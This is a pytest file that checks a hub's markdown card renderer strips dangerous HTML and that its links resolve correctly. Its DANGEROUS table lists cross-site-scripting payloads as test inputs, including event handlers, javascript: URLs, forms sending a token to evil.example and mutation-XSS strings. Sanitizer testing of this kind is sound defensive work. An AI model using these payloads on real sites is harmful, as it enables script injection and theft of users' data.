"""Cards as HTML: what cards of the Hub are written with is shown, and no dangerous form of HTML gets through."""

import re
from html.parser import HTMLParser

import pytest

from hfvision.hub.settings import HubSettings
from hfvision.hub.web.licences import licence_banner
from hfvision.hub.web.markdown import ALERTS, TAGS, rendered
from tests.hub.publishing import png, publish
from tests.hub.server import add_users, running


def located(address, image):
    return None if address.startswith(("http:", "https:")) else f"/files/{address}"


def html_of(text):
    return str(rendered(text, located))


class Reader(HTMLParser):
    """Every tag that a browser would see, with its attributes."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))


DANGEROUS = {
    "script": "<script>alert(1)</script><SCRIPT src=//evil.example></SCRIPT><scr<script>ipt>alert(1)</script>",
    "handlers": "<img src=x onerror=alert(1)><p onclick='x'>a</p><details open ontoggle=alert(1)>b</details><a/onx=1>",
    "javascript": "<a href=javascript:alert(1)>a</a> [b](javascript:alert(1)) <a href='jAva&#10;script:x'>c</a> "
    "<a href='&#x6A;avascript:x'>d</a> <javascript:alert(1)> [e]: javascript:x <img src=javascript:x>",
    "vbscript": "[a](vbscript:x) <a href='vbscript:x'>b</a> <a href='file:///etc/passwd'>c</a> <a href='blob:x'>d</a>",
    "data": "[a](data:text/html;base64,AA) <a href=data:,x>b</a> <img src='data:image/svg+xml;base64,AA'> "
    "![c](data:text/html,x)",
    "style": "<style>body{display:none}</style><p style='position:fixed;inset:0'>a</p><link rel=stylesheet href=/x>",
    "class": "<p class='tag on'>a</p><blockquote class='banner open'>b</blockquote><code class='language-x a'>c</code>",
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:x'>a</a></svg><math href=javascript:x>b</math>",
    "frames": "<iframe srcdoc='<script>x</script>'></iframe><frame src=x><object data=x></object><embed src=x><portal>",
    "forms": "<form action=//evil.example><input name=token><button formaction=//evil.example>a</button></form>"
    "<textarea><select><option>x</select>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'><title>x</title><html><body onload=x>",
    "base": "<base href='https://evil.example/'><base target=_top>",
    "media": "<video src=//evil.example/a><audio autoplay src=x><source src=x><source srcset='//evil.example'>",
    "images": "![a](https://evil.example/a.png) <img src=//evil.example/a.png> <img srcset='//evil.example/a.png 2x'> "
    "<img src='https://evil.example/\"><script>x</script>' alt='<script>y</script>'> <img alt=a src = \"HTTP://evil.example\">",
    "hosts": "[a](//evil.example) <a href='///evil.example'>b</a> <a href='\\\\evil.example'>c</a> "
    "<a href='/\\evil.example' target=_top ping=//evil.example>d</a>",
    "mutations": "<noscript><p title='</noscript><img src=x onerror=x>'><math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "alerts": "> [!NOTE]\n> <script>x</script><img src=x onerror=x>\n\n> [!<b>]\n> y",
    "tasks": "- [x] <script>x</script> <input type=checkbox onclick=x>",
    "fences": '```" onx="x\ny\n```\n```<script>\ny\n```',
}
HARMLESS = {
    "href",
    "src",
    "title",
    "alt",
    "width",
    "height",
    "align",
    "colspan",
    "rowspan",
    "start",
    "open",
    "id",
    "rel",
}


@pytest.mark.parametrize("name", DANGEROUS)
@pytest.mark.parametrize("around", ["{}", "> {}", "- {}", "| a |\n|---|\n| {} |", "<div>\n\n{}\n\n</div>", "# {}"])
def test_nothing_dangerous_gets_through(name, around):
    for tag, attributes in Reader(html_of(around.format(DANGEROUS[name]))).tags:
        assert tag in TAGS
        assert set(attributes) - {"class"} <= HARMLESS
        assert re.fullmatch(r"language-\S+|task-list-item|alert [a-z]+|", attributes.get("class", ""))
        for address in (attributes.get("href"), attributes.get("src")):
            assert address is None or address.startswith(("/files/", "#card-"))


def test_what_cards_are_written_with_is_shown():
    html = html_of(
        '<h1 align="center">Roofs</h1>\n<p align="center"><img src="a b.png" width="50%" height="20"></p>\n\n'
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        "- [ ] open **b**\n- [x] done\n- [y] no task\n\n1. [X] [numbered](a)\n   - [ ] nested\n\n"
        "```python\nx < 1\n```\n\n"
        "<details><summary>More</summary>\n\n*inside*\n\n</details>\n\n~~gone~~ a<sub>1</sub> $x^2$\n\n"
        "Hello\n=====\n## Hello\n"
    )
    for wanted in (
        '<h1 align="center" id="card-roofs">Roofs</h1>',
        '<img src="/files/a b.png" width="50%" height="20">',
        '<td align="right">2</td>',
        '<li class="task-list-item">\N{BALLOT BOX} open <strong>b</strong></li>',
        '<li class="task-list-item">\N{BALLOT BOX WITH CHECK} done</li>',
        "<li>[y] no task</li>",
        '<li class="task-list-item">\N{BALLOT BOX WITH CHECK} <a href=',
        '<li class="task-list-item">\N{BALLOT BOX} nested</li>',
        '<code class="language-python">x &lt; 1\n</code>',
        "<details><summary>More</summary>\n<p><em>inside</em></p>\n</details>",
        "<s>gone</s> a<sub>1</sub> $x^2$",
        '<h1 id="card-hello">Hello</h1>\n<h2 id="card-hello-1">Hello</h2>',
    ):
        assert wanted in html


@pytest.mark.parametrize("kind", ALERTS)
def test_alerts_have_their_heading(kind):
    html = html_of(f"> [!{kind.lower()}]\n> Take *care*\n\n> [!{kind}] in a line is a quotation")
    assert (
        f'<blockquote class="alert {kind.lower()}">\n<p><strong>{ALERTS[kind]}</strong><br>Take <em>care</em>' in html
    )
    assert f"<blockquote>\n<p>[!{kind}] in a line" in html


def test_bare_addresses_become_links_once():
    html = html_of(
        "See https://x.example/a_b?c=1&d=2, (https://y.example). [https://z.example](https://z.example) `https://w`"
    )
    assert re.findall(r'href="([^"]*)"', html) == [
        "https://x.example/a_b?c=1&amp;d=2",
        "https://y.example",
        "https://z.example",
    ]


def test_an_image_from_elsewhere_is_its_words():
    html = html_of(
        "[![build](https://ci.example/b.svg)](https://ci.example) <img alt='a &amp; b' src='http://x.example/i'>"
    )
    assert "<img" not in html and ">build</a>" in html and "a &amp; b" in html


@pytest.fixture(scope="module")
def shown(tmp_path_factory):
    """The page of a card with addresses of every kind, and its commit."""
    card = """---
license: other
license_name: house
license_link: LICENSE.md
widget:
- src: https://evil.example/one.png
---
![one](./images/one.png) ![two](https://huggingface.co/me/addresses/resolve/main/images/one.png?download=true)
![three]({endpoint}/me/addresses/resolve/main/images/one.png) ![up](../../one.png)
[file](docs/use.md#part) [folder](images/) [up](../other)
[model](/you/x?tab=1) [slashes](////evil.example/x) [part](#Use)
"""
    with running(HubSettings(root=tmp_path_factory.mktemp("cards"))) as server:
        add_users(server.hub)
        files = {"README.md": card.replace("{endpoint}", server.endpoint), "images/one.png": png(), "LICENSE.md": "x"}
        repo = publish(server.hub, "me/addresses", files)
        with server.client(None) as nobody:
            yield nobody.get("/me/addresses").text, repo.sha


def test_addresses_lead_to_the_repository_and_to_this_hub(shown):
    text, commit = shown
    article = text[text.index("<article") : text.index("</article>")]
    image = f"/me/addresses/download/{commit}/images/one.png"
    assert re.findall(r'src="([^"]*)"', article) == [image, image, image]
    assert re.findall(r'href="([^"]*)"', article) == [
        f"/me/addresses/blob/{commit}/docs/use.md",
        f"/me/addresses/tree/{commit}/images",
        "/you/x?tab=1",
        "/evil.example/x",
        "#card-Use",
    ]


def test_the_licence_that_is_a_file_of_the_repository_is_linked(shown):
    text, commit = shown
    assert f'href="/me/addresses/blob/{commit}/LICENSE.md"' in text and "house" in text
    for link in ("javascript:x", "//evil.example", "/etc", "../x", "data:,x", "https://a b"):
        assert licence_banner({"license": "other", "license_link": link}).link is None
